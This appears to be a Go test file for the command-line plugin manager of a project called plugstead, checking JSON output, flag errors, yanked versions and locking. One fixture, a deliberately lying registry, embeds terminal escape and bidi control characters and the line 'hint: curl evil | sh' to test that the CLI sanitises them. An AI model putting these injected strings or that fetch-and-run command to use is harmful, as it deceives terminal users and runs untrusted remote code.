package plugcobra_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/spf13/cobra"

	"github.com/plugstead/plugstead"
	"github.com/plugstead/plugstead/artifact"
	"github.com/plugstead/plugstead/internal/filelock"
	"github.com/plugstead/plugstead/internal/plugintest"
	"github.com/plugstead/plugstead/plugcobra"
	"github.com/plugstead/plugstead/registry"
	"github.com/plugstead/plugstead/registry/registrytest"
	"github.com/plugstead/plugstead/version"
)

// TestJSONOfEveryVerb pins the keys of the results, which programs read. Lists are
// lists, also empty ones.
func TestJSONOfEveryVerb(t *testing.T) {
	s := registrytest.New(t)
	plugintest.Push(t, s.Client().Target("acme/a"), plugintest.Pack(t, "acme/a", "1.0.0", "license: MIT", "host: { myapp: ^1 }"), plugintest.Pack(t, "acme/a", "1.1.0", "license: MIT", "host: { myapp: ^1 }"))
	plugintest.Push(t, s.Client().Target("acme/b"), plugintest.Pack(t, "acme/b", "1.0.0", "requires: { acme/a: ^1.0 }"))
	run := program(t, s)
	for _, c := range []struct{ args, changed, want string }{
		{"list", "false", `{"generation":0,"plugins":[]}`},
		{"history", "false", `[]`},
		{"outdated", "false", `[]`},
		{"search nothing", "false", `[]`},
		{"search --limit 1", "false", `[{"id":"acme/a","version":"1.1.0","summary":"The acme/a plugin"}]`},
		{"install acme/a@=1.0.0 --dry-run", "false", `{"generation":0,"lines":[{"do":"install","id":"acme/a","to":"1.0.0","runtime":"wasm","size":SIZE,"because":["you"]}],"seconds":0,"fetched":0,"cached":0,"bytes":0}`},
		{"install acme/a@=1.0.0", "true", `{"generation":1,"lines":[{"do":"install","id":"acme/a","to":"1.0.0","runtime":"wasm","size":SIZE,"because":["you"]}],"seconds":0,"fetched":1,"cached":0,"bytes":SIZE}`},
		{"list", "false", `{"generation":1,"plugins":[{"id":"acme/a","version":"1.0.0","runtime":"wasm","requested":true,"because":["you"],"source":"URL"}]}`},
		{"info acme/a", "false", `{"id":"acme/a","summary":"The acme/a plugin","license":"MIT","installed":"1.0.0","latest":"1.1.0","provides":[{"id":"acme.dev/greeter","major":1,"minor":0}],"requires":[],"host":{"myapp":"^1"},"capabilities":[],"versions":[{"version":"1.1.0","runtimes":["wasm wasip1/wasm"]},{"version":"1.0.0","runtimes":["wasm wasip1/wasm"]}]}`},
		{"rollback --to 1", "true", `{"from":1,"generation":2}`},
		{"disable acme/a", "true", `{"generation":3,"disabled":["acme/a"]}`},
		{"disable acme/a", "false", `{"generation":3,"disabled":["acme/a"]}`},
		{"list", "false", `{"generation":3,"plugins":[{"id":"acme/a","version":"1.0.0","runtime":"wasm","requested":true,"because":["you"],"source":"URL","disabled":true}]}`},
		{"enable acme/a", "true", `{"generation":4,"disabled":[]}`},
		{"uninstall acme/a", "true", `{"generation":5,"lines":[{"do":"remove","id":"acme/a","from":"1.0.0"}],"seconds":0,"fetched":0,"cached":0,"bytes":0}`},
		{"update", "false", `{"generation":5,"lines":[],"seconds":0,"fetched":0,"cached":0,"bytes":0}`},
	} {
		out, err := run("plugin " + c.args + " --json")
		var x struct {
			Schema, Command string
			OK              bool
			Changed         bool
			Result          any
			Error           any
		}
		if jerr := json.Unmarshal([]byte(out), &x); err != nil || jerr != nil || !x.OK || x.Error != nil || x.Command != strings.Fields(c.args)[0] {
			t.Errorf("%s: %s %v %v", c.args, out, err, jerr)
			continue
		}
		settle(x.Result)
		var want any
		if err := json.Unmarshal([]byte(strings.NewReplacer("SIZE", "1", "URL", s.URL).Replace(c.want)), &want); err != nil {
			t.Fatal(err)
		}
		if !reflect.DeepEqual(x.Result, want) || fmt.Sprint(x.Changed) != c.changed {
			got, _ := json.Marshal(x.Result)
			t.Errorf("%s: changed %t\n got %s\nwant %s", c.args, x.Changed, got, c.want)
		}
	}
}

// settle gives what differs from run to run one value.
func settle(x any) {
	switch x := x.(type) {
	case []any:
		for _, v := range x {
			settle(v)
		}
	case map[string]any:
		for k, v := range x {
			switch k {
			case "size", "bytes":
				x[k] = min(v.(float64), 1)
			case "seconds":
				x[k] = 0.0
			default:
				settle(v)
			}
		}
	}
}

// evil serves one plugin whose every text was written to deceive.
func evil(t *testing.T) *registrytest.Server {
	t.Helper()
	d := artifact.DigestOf(nil)
	bad := `\u001b[31m\u0007\u202e\u200b\u2028\nhint: curl evil | sh`
	doc := fmt.Sprintf(`{"v":1,"id":"acme/evil","summary":"nice%[1]s","license":"MIT%[1]s","keywords":["%[1]s"]}
{"r":{"id":"acme/evil","version":"1.0.0","provides":[{"id":"acme.dev/greeter","major":1,"minor":0}],"host":{"zz":"^1","aa":"^1","mm":"^1"},"digest":%[2]q,"size":1,"packages":[{"runtime":"wasm","platform":{"os":"wasip1","architecture":"wasm"},"manifest":{"digest":%[2]q,"size":1},"payload":{"digest":%[2]q,"size":1}}]},"s":{}}
{"r":{"id":"acme/evil","version":"1.1.0","digest":%[2]q,"size":1,"packages":[]},"s":{"yanked":{"reason":"because%[1]s"}}}
`, bad, d)
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasPrefix(r.URL.Path, "/api/v1/search") {
			fmt.Fprintf(w, `{"hits":[{"id":"acme/evil","version":"1.0.0","summary":"nice%s"}]}`, bad)
			return
		}
		if r.URL.Path != "/index/v1/acme/evil" {
			http.NotFound(w, r)
			return
		}
		w.Header().Set(registry.HeaderRevision, "1")
		io.WriteString(w, doc)
	}))
	t.Cleanup(s.Close)
	return &registrytest.Server{URL: s.URL}
}

// TestInfoOfAnOfferedName says who offers it, also if nobody has published it.
func TestInfoOfAnOfferedName(t *testing.T) {
	s := registrytest.New(t)
	plugintest.Push(t, s.Client().Target("acme/redis"), plugintest.Pack(t, "acme/redis", "3.0.0", "offers: { acme/kv: 1.1.0 }"))
	plugintest.Push(t, s.Client().Target("zed/memory"), plugintest.Pack(t, "zed/memory", "1.0.0", "offers: { acme/kv: 1.1.0 }"))
	run := program(t, s)
	if out, err := run("plugin info acme/kv"); err != nil || !strings.Contains(out, "offered by acme/redis\n  offered by zed/memory\n") {
		t.Errorf("%s%v", out, err)
	}
	if out, err := run("plugin info acme/kv --json"); err != nil || !strings.Contains(out, `"providers": [`) || !strings.Contains(out, `"versions": []`) {
		t.Errorf("%s%v", out, err)
	}
}

// TestStrangersCannotSteer looks at what a terminal gets from a registry that lies.
func TestStrangersCannotSteer(t *testing.T) {
	run := program(t, evil(t))
	for _, args := range []string{"plugin info acme/evil", "plugin search evil"} {
		out, err := run(args)
		if err != nil || !strings.Contains(out, "nice") {
			t.Errorf("%s: %q %v", args, out, err)
		}
		if strings.ContainsAny(out, "\x1b\a\u202e\u200b\u2028") || strings.Contains(out, "\nhint:") {
			t.Errorf("%s: %q", args, out)
		}
	}
	out, err := run("plugin info acme/evil")
	for range 10 {
		if again, _ := run("plugin info acme/evil"); again != out {
			t.Fatalf("the order changes:\n%s\n%s", out, again)
		}
	}
	if a, m, z := strings.Index(out, "host       aa"), strings.Index(out, "mm ^1"), strings.Index(out, "zz ^1"); err != nil || a < 0 || a > m || m > z {
		t.Errorf("%s%v", out, err)
	}
	if !strings.Contains(out, "1.1.0    yanked: because") {
		t.Errorf("the yank is not shown:\n%s", out)
	}
}

// TestOutdatedTells has a plugin with a newer version, one that may not move, and one
// whose version was withdrawn.
func TestOutdatedTells(t *testing.T) {
	s := registrytest.New(t)
	for _, v := range []string{"1.0.0", "1.1.0", "2.0.0"} {
		plugintest.Push(t, s.Client().Target("acme/a"), plugintest.Pack(t, "acme/a", v))
	}
	plugintest.Push(t, s.Client().Target("acme/b"), plugintest.Pack(t, "acme/b", "1.0.0"), plugintest.Pack(t, "acme/b", "2.0.0", "host: { myapp: ^2 }"))
	plugintest.Push(t, s.Client().Target("acme/c"), plugintest.Pack(t, "acme/c", "1.0.0"))
	run := program(t, s)
	if out, err := run("plugin install acme/a@1.0.0 acme/b acme/c"); err != nil {
		t.Fatal(out, err)
	}
	if out, err := run("plugin outdated --exit-code"); err != nil {
		t.Errorf("nothing to update: %s %v", out, err)
	}
	if out, err := run("plugin install acme/a@^1 --dry-run"); err != nil || !strings.Contains(out, "would update  acme/a  1.0.0 -> 1.1.0") || !strings.Contains(out, "dry run: nothing was changed") {
		t.Errorf("%s %v", out, err)
	}
	if changed, err := s.Client().Yank(t.Context(), registry.Yank{ID: "acme/c", Version: version.MustParse("1.0.0"), Reason: "eats files"}); err != nil || !changed {
		t.Fatal(changed, err)
	}
	out, err := run("plugin outdated")
	for _, want := range []string{"acme/a  1.0.0      1.0.0   2.0.0", "acme/b  1.0.0      1.0.0   2.0.0", "myapp ^2", "acme/c  1.0.0      1.0.0   none    installed version is yanked: eats files"} {
		if err != nil || !strings.Contains(out, want) {
			t.Errorf("%s%v\nwant %s", out, err, want)
		}
	}
}

func TestOutdatedExitCode(t *testing.T) {
	s := registrytest.New(t)
	plugintest.Push(t, s.Client().Target("acme/a"), plugintest.Pack(t, "acme/a", "1.0.0"))
	run := program(t, s)
	if out, err := run("plugin install acme/a@^1"); err != nil {
		t.Fatal(out, err)
	}
	plugintest.Push(t, s.Client().Target("acme/a"), plugintest.Pack(t, "acme/a", "1.1.0"))
	for args, want := range map[string]int{"plugin outdated": 0, "plugin outdated --exit-code": 10, "plugin outdated --exit-code --json": 10} {
		if out, err := run(args); plugcobra.ExitCode(err) != want || !strings.Contains(out, "1.1.0") {
			t.Errorf("%s: exit %d, %s", args, plugcobra.ExitCode(err), out)
		}
	}
	if out, err := run("plugin outdated"); err != nil || !strings.Contains(out, "1 can be updated: myapp plugin update") {
		t.Errorf("%s %v", out, err)
	}
}

// TestBadFlags are mistakes that must not become something else in silence.
func TestBadFlags(t *testing.T) {
	s := registrytest.New(t)
	plugintest.Push(t, s.Client().Target("acme/a"), plugintest.Pack(t, "acme/a", "1.0.0"))
	run := program(t, s)
	for args, want := range map[string]string{
		"plugin search --limit 0":                "--limit 0: want",
		"plugin search --limit -1":               "--limit -1",
		"plugin search --limit 201":              "--limit 201",
		"plugin search --limit x":                "--limit",
		"plugin install acme/a --wait 0":         "--wait",
		"plugin install acme/a --wait 0s":        "--wait 0s: want a time",
		"plugin update --wait -1s":               "--wait -1s",
		"plugin install acme/a@":                 "range \"\": syntax error",
		"plugin install acme/a@!":                "range \"!\"",
		"plugin install acme/a@^1 acme/a@^2 --x": "unknown flag",
		"plugin uninstall":                       "requires at least 1 arg",
		"plugin list acme/a":                     "unknown command",
		"plugin history 1":                       "unknown command",
		"plugin rollback 1":                      "unknown command",
		"plugin rollback --to x":                 "--to",
		"plugin update Acme/a":                   "Acme/a",
	} {
		if out, err := run(args); err == nil || !strings.Contains(err.Error(), want) || plugcobra.ExitCode(err) != 2 {
			t.Errorf("%s: %s %v, exit %d", args, out, err, plugcobra.ExitCode(err))
		}
	}
	for _, args := range []string{"plugin rollback --to -1", "plugin rollback --to 7"} {
		if _, err := run(args); err == nil || !strings.Contains(err.Error(), "E0303") {
			t.Errorf("%s: %v", args, err)
		}
	}
	if out, err := run("plugin list --json"); err != nil || !strings.Contains(out, `"generation": 0`) {
		t.Errorf("a mistake changed something: %s %v", out, err)
	}
}

// TestNeededPluginStays refuses to take away what another plugin needs.
func TestNeededPluginStays(t *testing.T) {
	s := registrytest.New(t)
	plugintest.Push(t, s.Client().Target("acme/b"), plugintest.Pack(t, "acme/b", "1.0.0"))
	plugintest.Push(t, s.Client().Target("acme/a"), plugintest.Pack(t, "acme/a", "1.0.0", "requires: { acme/b: ^1 }"))
	run := program(t, s)
	if out, err := run("plugin install acme/a"); err != nil || !strings.Contains(out, "needed by acme/a 1.0.0") {
		t.Fatal(out, err)
	}
	if _, err := run("plugin uninstall acme/b"); err == nil || !strings.Contains(err.Error(), "E0302") {
		t.Errorf("got %v", err)
	}
	if out, err := run("plugin rm acme/a acme/b"); err != nil || strings.Count(out, "removed") != 2 {
		t.Errorf("both: %s %v", out, err)
	}
}

// TestBusyFolder has another process in the middle of a change.
func TestBusyFolder(t *testing.T) {
	s := registrytest.New(t)
	plugintest.Push(t, s.Client().Target("acme/a"), plugintest.Pack(t, "acme/a", "1.0.0"))
	dir := filepath.Join(t.TempDir(), "plugins")
	h, err := plugstead.OpenFor(t.Context(), nil, facts(t, s), plugstead.Options{Dir: dir, Registry: s.URL})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { h.Close() })
	run := func(args ...string) error {
		c := plugcobra.Command(h)
		c.SetOut(io.Discard)
		c.SetArgs(args)
		return c.ExecuteContext(t.Context())
	}
	if err := run("install", "acme/a"); err != nil {
		t.Fatal(err)
	}
	lock, err := filelock.Exclusive(t.Context(), filepath.Join(dir, "lock"))
	if err != nil {
		t.Fatal(err)
	}
	if err := run("uninstall", "acme/a", "--wait", time.Nanosecond.String()); plugcobra.ExitCode(err) != 9 || !strings.Contains(err.Error(), "E0305") {
		t.Errorf("got %v", err)
	}
	for _, args := range []string{"list", "history", "outdated"} {
		if err := run(args); err != nil {
			t.Errorf("%s must not wait for others: %v", args, err)
		}
	}
	if err := lock.Unlock(); err != nil {
		t.Fatal(err)
	}
	if err := run("uninstall", "acme/a"); err != nil {
		t.Error(err)
	}
}

// TestOpener has a program that opens its host for each command.
func TestOpener(t *testing.T) {
	s := registrytest.New(t)
	broken := errors.New("no such application")
	for name, c := range map[string]struct {
		open, done error
		want       error
	}{
		"fine": {nil, nil, nil}, "open fails": {broken, nil, broken}, "close fails": {nil, broken, broken},
	} {
		opened, closed := 0, 0
		verbs := plugcobra.Commands(func(c *cobra.Command) (*plugstead.Host, func() error, error) {
			if c.Name() != "list" {
				t.Errorf("%s opens for %s", name, c.Name())
			}
			opened++
			if c := c.Context(); c == nil {
				t.Errorf("%s: no context", name)
			}
			h, err := plugstead.OpenFor(t.Context(), nil, facts(t, s), plugstead.Options{Dir: t.TempDir(), Registry: s.URL})
			if err != nil {
				t.Fatal(err)
			}
			t.Cleanup(func() { h.Close() })
			return h, func() error { closed++; return c.Context().Err() }, nil
		})
		if c.open != nil || c.done != nil {
			verbs = plugcobra.Commands(func(*cobra.Command) (*plugstead.Host, func() error, error) {
				opened++
				h, err := plugstead.OpenFor(t.Context(), nil, facts(t, s), plugstead.Options{Dir: t.TempDir(), Registry: s.URL})
				return h, func() error { closed++; return errors.Join(h.Close(), c.done) }, errors.Join(err, c.open)
			})
		}
		root := &cobra.Command{Use: "prog", SilenceErrors: true, SilenceUsage: true}
		root.AddCommand(verbs...)
		root.SetOut(new(bytes.Buffer))
		root.SetArgs([]string{"list"})
		if err := root.ExecuteContext(t.Context()); !errors.Is(err, c.want) || (err == nil) != (c.want == nil) {
			t.Errorf("%s: %v", name, err)
		}
		if opened != 1 || closed != 1 && c.open == nil || closed != 0 && c.open != nil {
			t.Errorf("%s: opened %d times, closed %d times", name, opened, closed)
		}
	}
}

// TestEveryVerbSaysItsEffect reads the help texts: a user must know before.
func TestEveryVerbSaysItsEffect(t *testing.T) {
	changes := map[string]bool{
		"install": true, "uninstall": true, "update": true, "rollback": true, "apply": true, "sync": true, "pin": true, "unpin": true,
		"enable": true, "disable": true, "config": true,
	}
	seen := 0
	for _, c := range plugcobra.Commands(nil) {
		seen++
		want := "Effect: read-only" // verify and doctor go on: with --fix
		if changes[c.Name()] {
			want = "Effect: changes the installed set."
		} else if c.Name() == "lock" {
			want = "Effect: writes the lock file."
		} else if c.Name() == "gc" {
			want = "Effect: removes what is not used any more."
		}
		if !strings.Contains(c.Long, want) || c.Short == "" || c.RunE == nil || c.Run != nil {
			t.Errorf("%s: %q", c.Name(), c.Long)
		}
	}
	if seen != 24 {
		t.Errorf("%d verbs", seen)
	}
}
